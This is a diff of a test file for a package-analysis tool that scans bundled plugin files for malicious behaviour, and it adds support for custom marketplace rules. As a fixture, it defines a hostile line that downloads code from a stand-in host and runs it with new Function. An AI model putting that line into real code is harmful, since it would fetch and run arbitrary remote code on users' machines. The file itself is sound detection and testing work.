@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { openPackageCache, packArchive } from '@guildhall/plugin-project';
 import { analyzePackage } from './analyze-package.ts';
+import type { ActiveRule } from './jobs.ts';
 
 let cacheFolder: string;
 beforeAll(async () => {
@@ -12,7 +13,12 @@ beforeAll(async () => {
 afterAll(() => rm(cacheFolder, { recursive: true, force: true }));
 
 /** Puts a package into the cache and looks at those of its files that a bundle has. */
-async function look(texts: Readonly<Record<string, string>>, fields: object = {}, files = ['index.js']) {
+async function look(
+  texts: Readonly<Record<string, string>>,
+  fields: object = {},
+  files = ['index.js'],
+  rules: ActiveRule[] | null = null,
+) {
   const encoder = new TextEncoder();
   const all = { 'package.json': JSON.stringify({ name: 'words', version: '1.2.0', ...fields }), ...texts };
   const tarball = await packArchive(
@@ -20,11 +26,12 @@ async function look(texts: Readonly<Record<string, string>>, fields: object = {}
   );
   const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
   await openPackageCache(cacheFolder).write(integrity, tarball);
-  return analyzePackage({ package: { name: 'words', version: '1.2.0', integrity }, files, cacheFolder });
+  const reference = { name: 'words', version: '1.2.0', integrity };
+  return analyzePackage({ package: reference, files, cacheFolder, rules });
 }
 
 const HOSTILE = `fetch('https://evil.invalid/x').then((r) => r.text()).then((t) => new Function(t)());\n`;
-const rules = ({ findings }: { findings: readonly { ruleId: string }[] }) => [
+const rulesIn = ({ findings }: { findings: readonly { ruleId: string }[] }) => [
   ...new Set(findings.map(({ ruleId }) => ruleId)),
 ];
 
@@ -37,7 +44,7 @@ describe('a package in a bundle', () => {
   });
 
   it('is not blamed for files that are in no bundle', async () => {
-    expect(rules(await look({ 'index.js': 'export {};', 'other.js': HOSTILE }))).toEqual([]);
+    expect(rulesIn(await look({ 'index.js': 'export {};', 'other.js': HOSTILE }))).toEqual([]);
   });
 
   it('is told of a script that would run when it is installed, and of what that does', async () => {
@@ -57,7 +64,7 @@ describe('a package in a bundle', () => {
       { 'index.js': minified },
       { devDependencies: { lodahs: '1.0.0', 'git-thing': 'git+https://a.invalid/b.git' } },
     );
-    expect(rules(report)).toEqual([]);
+    expect(rulesIn(report)).toEqual([]);
   });
 
   it.each<[string, object, string | null]>([
@@ -86,5 +93,17 @@ describe('a package in a bundle', () => {
     const integrity = `sha512-${createHash('sha512').update('nobody').digest('base64')}`;
     const wanted = { package: { name: 'words', version: '1.2.0', integrity }, files: [], cacheFolder };
     await expect(analyzePackage(wanted)).rejects.toThrow('not in the cache');
+  });
+
+  it("is held against a marketplace's own rules alone where those are given, and only its bundled files", async () => {
+    const definition = 'id: no-fetch\nmessage: It fetches\nseverity: high\nrule: { pattern: fetch($$$) }\n';
+    const texts = { 'index.js': HOSTILE, 'other.js': 'fetch("https://other.invalid")' };
+    const watched = await look(texts, {}, ['index.js'], [{ definition, enforced: false }]);
+    expect(watched.findings).toMatchObject([
+      { ruleId: 'custom/no-fetch', file: 'index.js', line: 1, observed: true, threat: 'custom' },
+    ]);
+    const counted = await look(texts, {}, ['index.js'], [{ definition, enforced: true }]);
+    expect(counted.findings).toMatchObject([{ ruleId: 'custom/no-fetch', severity: 'HIGH' }]);
+    expect(counted.findings[0]).not.toHaveProperty('observed');
   });
 });
